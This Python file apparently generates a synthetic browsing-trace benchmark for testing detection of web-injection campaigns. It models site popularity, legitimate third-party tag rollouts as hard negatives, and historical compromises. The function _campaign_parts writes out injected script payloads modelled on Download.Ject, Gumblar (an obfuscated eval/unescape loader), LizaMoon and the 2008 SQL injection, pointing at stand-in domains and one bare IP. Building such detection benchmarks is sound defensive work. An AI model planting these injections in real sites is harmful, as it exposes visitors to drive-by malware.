"""A browsing trace for campaign detection: realistic sites, third parties, and injections.

Models what a proxy in front of many browsers sees over a few weeks:

- Sites with power-law (Zipf) popularity; each has a template of third-party
  tags drawn from a pool whose adoption is power-law too (a few hosts on most
  sites, a long tail on one or two), placed where tags go (``<head>``, or just
  before ``</body>``), with per-site IDs in the tags.
- Hard negatives: new legitimate third parties rolling out to more sites each
  day (an analytics tag, a CDN, a widget every theme includes), an ad network
  that still writes its tag with ``document.write``, a tracking vendor that
  loads a hidden 1x1 iframe, sloppy sites with a script after ``</html>`` (one
  site each), a new comment widget rolled out just before ``</body>``.
- Campaigns of the historical shapes, each starting on a given day and spreading
  to more sites over days: Download.Ject (a script footer after ``</html>``
  writing a ``<script src>`` and a 1x1 iframe to a bare IP), the 2008 SQL
  injection (a ``<script src>`` appended to every text field: in the title,
  several table cells), Gumblar (obfuscated script at the top of the page, before
  ``<html>``, writing a script from one of a few rotating domains), LizaMoon
  (``</title><script src=...>`` in the title).

``views(...)`` yields ``(time, client, url, body, label)``: ``label`` is the
campaign host a view carries, or None. ``python benchmarks/campaign_trace.py
--views N --out trace.jsonl`` writes the JSONL trace ``jectguard hunt replay``
reads.
"""

from __future__ import annotations

import argparse
import base64
import bisect
import json
import random
import sys
import zlib
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime

DAY = 86_400.0
START = datetime(2026, 11, 1, tzinfo=UTC).timestamp()


@dataclass
class Campaign:
    shape: str
    hosts: list[str]
    start_day: float
    daily_sites: int  # sites newly infected per day
    infected: list[int] = field(default_factory=list)


@dataclass
class Site:
    domain: str
    head: list[str]  # tags in <head>
    body_end: list[str]  # tags just before </body>
    after_html: str = ""  # a sloppy template's stray script after </html>
    campaign: Campaign | None = None
    rollouts: list[str] = field(default_factory=list)  # hard-negative tags by rollout


def _zipf_cdf(n: int, s: float) -> list[float]:
    weights = [1.0 / (i + 1) ** s for i in range(n)]
    total = sum(weights)
    out, acc = [], 0.0
    for w in weights:
        acc += w / total
        out.append(acc)
    return out


def _tag(host: str, rng: random.Random, where: str) -> str:
    sid = rng.randrange(10**6, 10**7)
    kind = rng.random()
    if kind < 0.7:
        return f'<script async src="https://{host}/tag.js?id={sid}"></script>'
    if kind < 0.85:
        return f'<link rel="stylesheet" href="https://{host}/s.css"><script src="https://{host}/w.js" defer></script>'
    return (
        f"<script>(function(){{var s=document.createElement('script');s.src='https://{host}/l.js?k={sid}';"
        f"document.head.appendChild(s);}})();</script>"
    )


def build_world(
    n_sites: int = 3000, seed: int = 1
) -> tuple[list[Site], list[Campaign], list[tuple[str, float, str, int]]]:
    rng = random.Random(seed)
    pool = [f"cdn{i}.vendor{i}.example" for i in range(400)]
    pool_cdf = _zipf_cdf(len(pool), 1.2)
    common = ["www.googletagmanager.com", "fonts.googleapis.com", "cdn.jsdelivr.net"]
    sites = []
    for i in range(n_sites):
        head = [_tag(h, rng, "head") for h in common if rng.random() < 0.5]
        for _ in range(rng.randrange(2, 9)):
            head.append(_tag(pool[bisect.bisect(pool_cdf, rng.random())], rng, "head"))
        body_end = [_tag(pool[bisect.bisect(pool_cdf, rng.random())], rng, "end") for _ in range(2)]
        site = Site(f"site{i}-{i % 97}.test", head, body_end)
        if rng.random() < 0.01:  # a sloppy template: its own stray script after </html>
            site.after_html = f'<script src="https://stats{i}.sloppyhost{i}.example/c.js"></script>'
        sites.append(site)
    # Legitimate rollouts: (host, start day, where, sites per day).
    rollouts = [
        ("t.newanalytics.example", 2.0, "head", 60),
        ("edge.newcdn.example", 4.0, "head", 120),
        ("w.themewidget.example", 1.5, "end", 200),
        ("ads.writer-network.example", 3.0, "write", 40),
        ("px.hiddenframe-vendor.example", 5.0, "frame", 40),
        ("c.comments-new.example", 6.0, "end", 80),
    ]
    campaigns = [
        Campaign("downloadject", ["217.107.218.147"], 8.0, 6),
        Campaign("sqli2008", ["www.nihaorr1-2008.example"], 10.0, 8),
        Campaign(
            "gumblar", ["gumblar-a.example", "gumblar-b.example", "martuz-c.example"], 12.0, 9
        ),
        Campaign("lizamoon", ["lizamoon-2011.example"], 14.0, 7),
    ]
    return sites, campaigns, rollouts


def _rollout_tag(host: str, where: str, rng: random.Random) -> str:
    if where == "write":
        return (
            f"<script>document.write('<scr'+'ipt src=\"https://{host}/show_ads.js?slot="
            f"{rng.randrange(10**5)}\"></scr'+'ipt>');</script>"
        )
    if where == "frame":
        return (
            f'<iframe src="https://{host}/px?i={rng.randrange(10**5)}" width="1" height="1" '
            'style="display:none"></iframe>'
        )
    return _tag(host, rng, where)


def _campaign_parts(c: Campaign, site_index: int, rng: random.Random) -> tuple[str, str, str, str]:
    """(before <html>, in the title, in the body, after </html>) for an infected page."""
    host = c.hosts[site_index % len(c.hosts)]
    if c.shape == "downloadject":
        footer = (
            '<script language="JavaScript">function sc088(n,v){document.cookie=n+"="+escape(v);}'
            'if(document.cookie.indexOf("trk716")<0){sc088("trk716","1");'
            f'document.write("<scr"+"ipt src=http://{host}/dot.php></scr"+"ipt>");'
            f'document.write("<iframe src=http://{host}/dot.php width=1 height=1 '
            'style=display:none></iframe>");}</script>'
        )
        return "", "", "", footer
    if c.shape == "sqli2008":
        inj = f"<script src=http://{host}/1.js></script>"
        return "", inj, f"<table><tr><td>Item{inj}</td><td>Price{inj}</td></tr></table>", ""
    if c.shape == "gumblar":
        payload = f"document.write('<scr'+'ipt src=http://{host}/js/'+'jquery.js></scr'+'ipt>')"
        enc = "".join(f"%{ord(ch):02x}" for ch in payload)
        return f"<script>eval(unescape('{enc}'));</script>", "", "", ""
    # lizamoon
    return "", f"</title><script src=http://{host}/ur.php></script>", "", ""


def views(
    n: int, *, n_sites: int = 3000, clients: int = 500, days: float = 21.0, seed: int = 1
) -> Iterator[tuple[float, str, str, bytes, str | None]]:
    """``n`` page views spread over ``days``."""
    rng = random.Random(seed)
    sites, campaigns, rollouts = build_world(n_sites, seed)
    site_cdf = _zipf_cdf(len(sites), 1.0)
    adopted: dict[str, int] = {}
    infected_count = {c.shape: 0 for c in campaigns}
    order = list(range(len(sites)))
    rng.shuffle(order)
    for k in range(n):
        t = START + days * DAY * k / n
        day = (t - START) / DAY
        # Rollouts and campaigns spread day by day to sites in a random order.
        for host, start, where, per_day in rollouts:
            want = int(max(0.0, day - start) * per_day)
            have = adopted.get(host, 0)
            while have < min(want, len(sites)):
                s = sites[order[(have * 7 + zlib.crc32(host.encode()) % 101) % len(sites)]]
                s.rollouts.append(_rollout_tag(host, where, rng))
                have += 1
            adopted[host] = have
        for c in campaigns:
            want = int(max(0.0, day - c.start_day) * c.daily_sites) + (
                1 if day >= c.start_day else 0
            )
            while infected_count[c.shape] < want:
                idx = order[
                    -1 - (infected_count[c.shape] * 13 + zlib.crc32(c.shape.encode())) % len(sites)
                ]
                if sites[idx].campaign is None:
                    sites[idx].campaign = c
                    c.infected.append(idx)
                infected_count[c.shape] += 1
        idx = bisect.bisect(site_cdf, rng.random())
        idx = min(idx, len(sites) - 1)
        s = sites[idx]
        before, title_inj, body_inj, after = "", "", "", s.after_html
        label = None
        if s.campaign is not None:
            before, title_inj, body_inj, footer = _campaign_parts(s.campaign, idx, rng)
            after += footer
            label = s.campaign.hosts[idx % len(s.campaign.hosts)]
        head_tags = "".join(s.head) + "".join(r for r in s.rollouts if "</iframe>" not in r)
        frames = "".join(r for r in s.rollouts if "</iframe>" in r)
        page = rng.randrange(1, 500)
        html = (
            f"{before}<!DOCTYPE html><html><head><meta charset=utf-8><title>{s.domain} page {page}"
            f"{title_inj}</title>{head_tags}</head><body><h1>Page {page}</h1>"
            f"<p>{'Lorem ipsum dolor sit amet. ' * rng.randrange(5, 40)}</p>{body_inj}{frames}"
            f"{''.join(s.body_end)}</body></html>{after}"
        )
        client = f"10.0.{rng.randrange(clients) // 250}.{rng.randrange(clients) % 250 + 1}"
        yield t, client, f"https://www.{s.domain}/p/{page}.html", html.encode(), label


def _rfc3339(t: float) -> str:
    return datetime.fromtimestamp(t, UTC).strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--views", type=int, default=100_000)
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--out", default="-", help="JSONL file ('-': stdout)")
    ap.add_argument("--b64", action="store_true", help="write body_b64 instead of body")
    args = ap.parse_args(argv)
    out = sys.stdout if args.out == "-" else open(args.out, "w", encoding="utf-8")  # noqa: SIM115
    try:
        for t, client, url, body, _ in views(args.views, seed=args.seed):
            rec: dict[str, object] = {"time": _rfc3339(t), "client": client, "url": url,
                                      "content_type": "text/html; charset=utf-8"}  # fmt: skip
            if args.b64:
                rec["body_b64"] = base64.b64encode(body).decode()
            else:
                rec["body"] = body.decode()
            out.write(json.dumps(rec) + "\n")
    finally:
        if out is not sys.stdout:
            out.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
